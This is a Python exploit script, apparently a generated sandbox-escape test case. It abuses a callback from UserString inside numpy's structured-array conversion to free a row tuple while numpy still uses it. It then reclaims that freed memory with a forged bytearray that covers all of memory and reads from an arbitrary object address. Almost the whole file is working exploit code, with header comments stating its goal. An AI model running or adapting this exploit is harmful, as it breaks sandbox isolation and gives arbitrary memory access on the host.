# source: CPython 3.11 UserString.__mul__ (builds self.__class__(...) / type(self)(...)); sandexec README, "The static check", conversion rule allowing literal subscripts and arithmetic; numpy 1.24 VOID_setitem reads row tuple items borrowed
# family: library code calling back into the script from inside a conversion: UserString arithmetic self.u * 1 runs the subclass's __init__
# goal: __float__ runs script code that frees the row tuple and its object field, reclaimed by a forged bytearray over all memory; reads 16 bytes at another object's address (out-of-bounds memory read)
import numpy as np
import pandas as pd
import collections

keep = []
hold = []


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


def boom(*a, **k):
    junk = [(n, n + 1) for n in range(300)]
    hold[0][0] = 0
    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
    payload = payload + bytes(479 - len(payload))
    for n in range(8):
        keep.append(bytearray(payload))
    junk.clear()
    return 1.0




class U(collections.UserString):
    def __init__(self, seq):
        super().__init__(seq)
        if len(hold) > 0 and len(keep) == 0:
            boom()


class A:
    def __init__(self, u):
        self.u = u

    def __float__(self):
        return float(self.u * 1)


lst = [(A(U("2")), bytes(447))]
hold.append(lst)
arr = np.array(lst, dtype=[("x", "f8"), ("y", "O")])
fake = arr["y"][0]
print("fake object:", type(fake), len(fake))
o = object()
r = repr(o)
a = int(r.split("at ")[1][:-1], 16)
print("read at", hex(a), ":", bytes(fake[a:a + 16]).hex(), "type(object) at", hex(addr_of_type(object)))
